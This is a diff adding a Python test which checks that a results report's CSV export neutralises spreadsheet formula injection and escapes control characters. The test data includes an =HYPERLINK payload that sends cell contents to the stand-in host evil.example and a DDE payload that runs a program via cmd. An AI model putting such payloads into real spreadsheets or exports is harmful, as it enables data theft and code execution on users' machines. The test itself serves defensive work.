@@ -131,3 +131,41 @@ def test_latex_escape_writes_every_special_character_as_one_that_prints() -> Non
         r"a\_b \& 5\% \#1 \$x \{y\} \textasciitilde{} \textasciicircum{} \textbackslash{} "
     assert latex_escape("0.81 ± 0.02, α = 0.05, χ², Δ ≥ 1 ≤ 2, 1–2") == \
         r"0.81 $\pm$ 0.02, $\alpha$ = 0.05, $\chi^2$, $\Delta$ $\geq$ 1 $\leq$ 2, 1--2"
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
+CONTROLS = {"\t=1+1": "\\t=1+1", "\r=1+1": "\\r=1+1", "a\rb": "a\\rb"}  # escaped as where printed
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_text(fake_results: Path) -> None:
+    """Names from run folders and task files (a task, a configuration, a run id) starting with `=`, `+`, `-`,
+    `@`, tab or CR were formulas to Excel and LibreOffice (`=HYPERLINK(...)` sent a cell's neighbours away,
+    DDE's `cmd|...` ran a program): such a cell is written with a leading `'` (OWASP's advice), which the
+    spreadsheet shows as text; a CR, which pandas leaves unquoted (a spreadsheet's line break, in the middle
+    of a row), is escaped as where names are printed. Numbers stay numbers, negative ones and one written as
+    text included; parquet, for programs, keeps the names as they are."""
+    import csv
+    import dataclasses
+
+    report = build_report(fake_results)
+    table = report.table.copy()
+    table["task"] = table["task"].astype(object)
+    for row, name in enumerate([*FORMULAS, *CONTROLS]):
+        table.loc[table.index[row % len(table)], ["task", "config", "arch"][row % 3]] = name
+    table.loc[table.index[0], "encoder"] = "-0.25"  # a number as text: no formula a spreadsheet runs
+    table["dice_mean"] = table["dice_mean"].astype(float)
+    table.loc[table.index[0], "dice_mean"] = -0.5
+    report = dataclasses.replace(report, table=table)
+    text = render(report, "csv")
+    assert isinstance(text, str) and "\r" not in text
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert {len(row) for row in rows} == {len(table.columns)}
+    cells = [cell for row in rows for cell in row.values()]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]
+    for name in FORMULAS:
+        assert "'" + name in cells
+    assert set(CONTROLS.values()) <= set(cells)
+    assert [cell for cell in cells if cell.startswith("-")] == ["-0.25", "-0.5"]
+    assert rows[0]["encoder"] == "-0.25" and float(rows[0]["dice_mean"]) == -0.5
+    parquet = pd.read_parquet(io.BytesIO(render(report, "parquet")))  # type: ignore[arg-type]
+    assert {*FORMULAS, *CONTROLS} <= set(parquet[["task", "config", "arch"]].to_numpy().ravel())
